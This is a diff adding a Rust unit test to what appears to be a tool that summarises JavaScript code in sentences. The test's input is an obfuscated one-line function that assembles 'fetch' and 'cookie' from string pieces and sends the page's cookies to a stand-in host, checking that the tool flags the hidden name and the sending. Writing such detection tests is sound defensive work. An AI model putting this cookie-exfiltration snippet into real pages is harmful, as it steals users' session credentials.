@@ -141,6 +141,15 @@ fn the_function_that_a_library_is_wrapped_in_is_changed_and_not_new() {
 }
 
 #[test]
+fn a_sentence_on_one_function_names_what_it_does_without_what_explains_that() {
+    let said = together(
+        "function send() { window['fe' + 'tch']('https://a.example/', { body: document['coo' + 'kie'] }); }",
+    );
+    assert_eq!(said.len(), 1, "{said:?}");
+    assert!(said[0].contains("; hides the name of a global; sends"), "{said:?}");
+}
+
+#[test]
 fn code_outside_functions_is_said_too_and_one_thing_alone_is_not() {
     let old = "show(1);";
     let said = |new: &str| {
